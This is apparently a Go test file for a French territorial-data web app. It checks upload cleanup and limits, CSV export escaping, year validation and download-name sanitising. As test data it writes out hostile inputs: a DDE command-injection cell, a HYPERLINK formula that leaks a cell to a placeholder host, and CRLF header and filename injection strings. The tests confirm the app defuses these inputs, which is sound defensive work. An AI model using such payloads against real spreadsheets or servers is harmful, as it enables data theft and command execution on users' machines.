package web

import (
	"bytes"
	"context"
	"encoding/csv"
	"io"
	"maps"
	"mime"
	"mime/multipart"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/ctg-territoires/ctg/examples"
	"github.com/ctg-territoires/ctg/internal/app"
	"github.com/ctg-territoires/ctg/internal/auth"
)

// upload sends a multipart form with a file of size bytes as the given
// role, with the given CSRF token, and returns the status and page.
func (e *testEnv) upload(t *testing.T, role, path, csrf string, size int) (int, string) {
	t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	_ = mw.WriteField("csrf", csrf)
	fw, _ := mw.CreateFormFile("fichier", "formulaire.xlsx")
	_, _ = fw.Write(bytes.Repeat([]byte("x;"), size/2))
	mw.Close()
	req, _ := http.NewRequest("POST", e.srv.URL+path, &body)
	req.Header.Set("Content-Type", mw.FormDataContentType())
	req.AddCookie(&http.Cookie{Name: sessionCookie, Value: e.sessions[role].token})
	resp, err := noRedirect.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	page, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(page)
}

// No upload leaves its temporary file behind: neither an accepted one
// larger than what is kept in memory, nor one refused for its CSRF token,
// nor a multipart post to a form that expects no file.
func TestUploadsLeaveNoTemporaryFiles(t *testing.T) {
	e := newEnv(t)
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	c := "/c/" + slug
	cases := []struct {
		name, role, path, csrf string
		size, status           int
	}{
		{"formulaire de plus de 1 Mio", "editeur", c + "/collecte/import", e.sessions["editeur"].csrf, 2 << 20, http.StatusUnprocessableEntity},
		{"fichier CSV de plus de 1 Mio", "contributeur", c + "/indicateurs/import", e.sessions["contributeur"].csrf, 2 << 20, http.StatusUnprocessableEntity},
		{"lecteur, mauvais jeton CSRF", "lecteur", c + "/collecte/import", "faux", 2 << 20, http.StatusForbidden},
		{"éditeur, mauvais jeton CSRF", "editeur", c + "/indicateurs/import", "faux", 2 << 20, http.StatusForbidden},
		{"formulaire sans fichier attendu", "lecteur", c + "/collecte/saisie?annee=2022", e.sessions["lecteur"].csrf, 33 << 20, http.StatusForbidden},
	}
	for _, tc := range cases {
		status, _ := e.upload(t, tc.role, tc.path, tc.csrf, tc.size)
		if status != tc.status {
			t.Errorf("%s : statut %d, %d attendu", tc.name, status, tc.status)
		}
		// The files go when the request ends, which may be just after
		// the client has read the whole answer.
		left, _ := filepath.Glob(filepath.Join(tmp, "multipart-*"))
		for deadline := time.Now().Add(10 * time.Second); len(left) > 0 && time.Now().Before(deadline); {
			time.Sleep(20 * time.Millisecond)
			left, _ = filepath.Glob(filepath.Join(tmp, "multipart-*"))
		}
		if len(left) > 0 {
			t.Errorf("%s : fichier(s) temporaire(s) laissé(s) : %v", tc.name, left)
			for _, f := range left {
				_ = os.Remove(f)
			}
		}
	}
}

// A file over the limit is refused with a message that says so.
func TestUploadOverLimitRefused(t *testing.T) {
	e := newEnv(t)
	status, page := e.upload(t, "editeur", "/c/"+slug+"/collecte/import", e.sessions["editeur"].csrf, app.MaxImportSize+2<<20)
	if status != http.StatusRequestEntityTooLarge || !strings.Contains(page, "trop volumineux : 32 Mo au plus") {
		t.Errorf("fichier trop gros : %d\n%s", status, page)
	}
}

// csvCells fetches a CSV export as a role and returns its cells.
func (e *testEnv) csvCells(t *testing.T, role, path string) [][]string {
	t.Helper()
	resp, body := e.do(t, role, "GET", path, nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("%s : %d", path, resp.StatusCode)
	}
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF")))
	cr.Comma, cr.FieldsPerRecord = ';', -1
	rows, err := cr.ReadAll()
	if err != nil {
		t.Fatalf("%s : %v", path, err)
	}
	return rows
}

// formulas lists the cells a spreadsheet would run as formulas.
func formulas(rows [][]string) []string {
	var out []string
	for _, row := range rows {
		for _, cell := range row {
			t := strings.TrimLeft(cell, " ")
			if t != "" && strings.ContainsAny(t[:1], "=+-@\t\r") {
				if _, err := strconv.ParseFloat(strings.Replace(t, ",", ".", 1), 64); err != nil {
					out = append(out, cell)
				}
			}
		}
	}
	return out
}

// Texts typed by users reach the CSV exports as texts, never as formulas a
// spreadsheet would run; numbers stay numbers, and an exported values file
// imports back unchanged.
func TestCSVExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	hyperlink := `=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")`
	conv := strings.Replace(string(examples.Forcalquier), "slug: ctg-forcalquier-2022", "slug: formules-ctg", 1)
	conv = strings.Replace(conv, "name: Accueil Ados - La Cordelière", "name: '"+hyperlink+"'", 1)
	conv = strings.Replace(conv, "operator_name: CENTRE SOCIOCULTUREL LA CORDELIERE", "operator_name: '@SUM(1+1)'", 1)
	if _, err := e.svc.Import(ctx, []byte(conv), false); err != nil {
		t.Fatal(err)
	}
	equipments := e.csvCells(t, "plateforme", "/c/formules-ctg/equipements.csv")
	if bad := formulas(equipments); len(bad) > 0 {
		t.Errorf("equipements.csv : formules laissées telles quelles : %q", bad)
	}
	if equipments[1][0] != "'@SUM(1+1)" || equipments[1][1] != "'"+hyperlink {
		t.Errorf("equipements.csv, première ligne : %q", equipments[1])
	}

	values := "Code;Période;Ventilation;Valeur;Texte;Source;Commentaire\r\n" +
		"2.2-1;2023;;1254;;+33 4 92 00 00 00;=1+1\r\n" +
		"2.2-3;2023;;312,5;;;\r\n" +
		"2.1-4;2023;;;-2+3+cmd|' /C calc'!A0;@fichier;\r\n"
	if n, err := e.svc.ImportValuesCSV(ctx, auth.System, slug, strings.NewReader(values)); err != nil || n != 3 {
		t.Fatalf("import : %d %v", n, err)
	}
	exported := e.csvCells(t, "editeur", "/c/"+slug+"/indicateurs.csv")
	if bad := formulas(exported); len(bad) > 0 {
		t.Errorf("indicateurs.csv : formules laissées telles quelles : %q", bad)
	}
	cells := map[string]bool{}
	for _, row := range exported {
		for _, c := range row {
			cells[c] = true
		}
	}
	for _, want := range []string{"1254", "312,5", "'-2+3+cmd|' /C calc'!A0", "'@fichier", "'+33 4 92 00 00 00", "'=1+1"} {
		if !cells[want] {
			t.Errorf("indicateurs.csv : cellule %q absente", want)
		}
	}
	// Its real values (the demonstration ones are left out) import back
	// as they were: nothing to write.
	var real bytes.Buffer
	cw := csv.NewWriter(&real)
	cw.Comma = ';'
	for _, row := range exported {
		if row[len(row)-1] != "oui" {
			_ = cw.Write(row)
		}
	}
	cw.Flush()
	if n, err := e.svc.ImportValuesCSV(ctx, auth.System, slug, &real); err != nil || n != 0 {
		t.Errorf("indicateurs.csv réimporté tel quel : %d valeur(s) écrite(s), %v", n, err)
	}
}

// The collection form and its browser version answer a missing year with
// the year the collection page shows, and a wrong one with 400 and a
// French message, before anything is saved.
func TestCollectionFormYear(t *testing.T) {
	e := newEnv(t)
	c := "/c/" + slug + "/collecte"
	for _, path := range []string{c + "/formulaire.xlsx", c + "/saisie"} {
		for _, query := range []string{"?annee=abc", "?annee=1999", "?annee=2022%22%3B"} {
			resp, body := e.do(t, "editeur", "GET", path+query, nil)
			if resp.StatusCode != http.StatusBadRequest || !strings.Contains(body, "Année de collecte invalide") {
				t.Errorf("%s%s : %d", path, query, resp.StatusCode)
			}
		}
		if resp, _ := e.do(t, "editeur", "GET", path, nil); resp.StatusCode != http.StatusOK {
			t.Errorf("%s sans année : %d", path, resp.StatusCode)
		}
	}
	before, _ := e.st.Count(context.Background())
	form := url.Values{"code": {"2.2-1"}, "period": {"2022"}, "value": {"12"}}
	if resp, _ := e.do(t, "editeur", "POST", c+"/saisie?annee=abc", form); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("saisie envoyée avec une année invalide : %d", resp.StatusCode)
	}
	if after, _ := e.st.Count(context.Background()); !maps.Equal(before, after) {
		t.Errorf("une saisie à l'année invalide a écrit : %v → %v", before, after)
	}
}

// The organization asked for in the form's address cannot add parameters
// to the download's Content-Disposition; a name that is not ASCII is
// encoded, not mangled.
func TestFormDownloadName(t *testing.T) {
	e := newEnv(t)
	for org, want := range map[string]string{
		`x"; filename="piege.exe`: slug + "-collecte-2022-x---filename--piege.exe.xlsx",
		"x\r\nSet-Cookie: a=b":    slug + "-collecte-2022-x--Set-Cookie--a-b.xlsx",
		"cordelière":              slug + "-collecte-2022-cordelière.xlsx",
		"cordeliere":              slug + "-collecte-2022-cordeliere.xlsx",
	} {
		resp, _ := e.do(t, "editeur", "GET", "/c/"+slug+"/collecte/formulaire.xlsx?annee=2022&organisation="+url.QueryEscape(org), nil)
		header := resp.Header.Get("Content-Disposition")
		kind, params, err := mime.ParseMediaType(header)
		if resp.StatusCode != http.StatusOK || err != nil || kind != "attachment" || len(params) != 1 || params["filename"] != want {
			t.Errorf("organisation %q : %d, Content-Disposition %q (%v) ; %q attendu", org, resp.StatusCode, header, err, want)
		}
		if resp.Header.Get("Set-Cookie") != "" {
			t.Errorf("organisation %q : en-tête ajouté", org)
		}
	}
}
